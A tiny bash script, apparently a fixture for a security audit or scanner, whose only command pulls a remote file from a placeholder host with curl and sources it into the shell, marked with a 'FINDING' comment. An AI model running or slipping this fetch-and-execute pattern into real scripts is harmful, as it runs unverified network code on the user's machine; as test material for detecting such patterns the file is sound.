#!/bin/bash
source <(curl -s https://example.com/env)  # FINDING
